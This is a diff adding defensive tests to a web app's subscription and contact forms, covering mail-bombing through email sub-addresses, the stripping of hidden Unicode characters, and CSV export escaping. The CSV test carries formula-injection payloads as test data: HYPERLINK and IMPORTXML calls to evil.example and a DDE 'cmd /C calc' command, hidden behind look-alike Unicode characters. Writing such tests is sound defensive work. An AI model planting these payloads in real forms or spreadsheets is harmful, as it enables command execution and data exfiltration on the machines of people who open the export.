@@ -182,6 +182,27 @@ describe("attacks on the subscription forms", () => {
     expect(mailsTo(ada.email)).toHaveLength(6);
   });
 
+  it("sub-addresses of one mailbox share its daily quota: +tags, and Gmail's dots and googlemail.com", async () => {
+    const tagged = Array.from({ length: 8 }, (_, i) => `bomb+${i}@x.example`);
+    for (const email of tagged) expect((await submit({ ...ada, email })).status).toBe(201);
+    // Each email still goes to the address as it was typed, and the mailbox gets five in all.
+    expect(tagged.flatMap((to) => mailsTo(to).map(() => to))).toEqual(tagged.slice(0, 5));
+
+    const gmail = [
+      "bomb@gmail.com",
+      "b.omb@gmail.com",
+      "B.o.m.b+1@gmail.com",
+      "bo.mb@googlemail.com",
+      "b.o.mb@gmail.com",
+    ];
+    for (const email of [...gmail, "bomb+2@googlemail.com"]) await submit({ ...ada, email });
+    expect(gmail.map((to) => mailsTo(to).length)).toEqual([1, 1, 1, 1, 1]);
+    expect(mailsTo("bomb+2@googlemail.com")).toHaveLength(0);
+    // Another mailbox of the same domain is not affected.
+    await submit({ ...ada, email: "someone+1@x.example" });
+    expect(mailsTo("someone+1@x.example")).toHaveLength(1);
+  });
+
   it("the daily cleanup deletes the quota records whose sends no longer count, and only those", async () => {
     await submit(ada);
     await requestSubscription({ ...ada, email: "grace@example.com" }, ORIGIN, new Date(Date.now() + 12 * 3_600_000));
@@ -232,11 +253,41 @@ describe("attacks on the subscription forms", () => {
     expect(team?.subject).not.toMatch(/[\u0000-\u001f\u202a-\u202e\u2066-\u2069]/);
   });
 
+  it("keeps no bidi mark, zero-width space or line separator in the contact message or its email", async () => {
+    await contactStore().deleteAll();
+    vi.stubEnv("CONTACT_TO", "team@usjobs.example");
+    const hidden = "\u200f\u061c\u200b";
+    const res = await contact(
+      new Request(`${ORIGIN}/api/contact`, {
+        method: "POST",
+        headers: { "Content-Type": "application/json" },
+        body: JSON.stringify({
+          name: `Bob${hidden}`,
+          email: "bob@example.com",
+          comment: `Pay ${hidden}invoice 4471\u2028now\u2029Thanks\r\nBob`,
+        }),
+      }),
+    );
+    expect(res.status).toBe(201);
+    const { blobs: keys } = await contactStore().list();
+    const message = (await contactStore().get(keys[0]!.key, { type: "json" })) as ContactRecord;
+    expect(message.name).toBe("Bob");
+    expect(message.comment).toBe("Pay invoice 4471\nnow\nThanks\nBob");
+    const team = mailsTo("team@usjobs.example")[0];
+    // The HTML part shows the message as it was kept (its preview line is padded with zero-width characters by the
+    // email layout, so only the message itself is looked at there).
+    expect(team?.html).toContain(">Pay invoice 4471\nnow\nThanks\nBob</p>");
+    expect(team?.text).toContain("Pay invoice 4471");
+    for (const part of [team?.subject, team?.text]) expect(part).not.toMatch(/[\u200b\u200f\u061c\u2028\u2029]/);
+  });
+
   it("the operator's CSV export quotes formula-like cells sent through the contact form", async () => {
     await contactStore().deleteAll();
     const sent = [
       { name: '\uff1dHYPERLINK("https://evil.example")', comment: '\u200b=IMPORTXML("https://evil.example")' },
       { name: "\uff20SUM(1)", comment: "\uff0bcmd|' /C calc'!A0 and more" },
+      { name: '\ufe66HYPERLINK("https://evil.example")', comment: "\ufe62cmd|' /C calc'!A0 and more" },
+      { name: "\ufe63SUM(1)", comment: '\ufe6bIMPORTXML("https://evil.example")' },
     ];
     for (const { name, comment } of sent) {
       const res = await contact(
@@ -251,7 +302,7 @@ describe("attacks on the subscription forms", () => {
     const rows = toCsv(await listContactMessages(), CONTACT_CSV_COLUMNS)
       .split("\r\n")
       .slice(1, -1);
-    expect(rows).toHaveLength(2);
+    expect(rows).toHaveLength(4);
     for (const row of rows) {
       const [, name, , , comment] = row.split(",");
       for (const cell of [name, comment]) expect(cell?.replace(/^"/, "").startsWith("'"), cell).toBe(true);
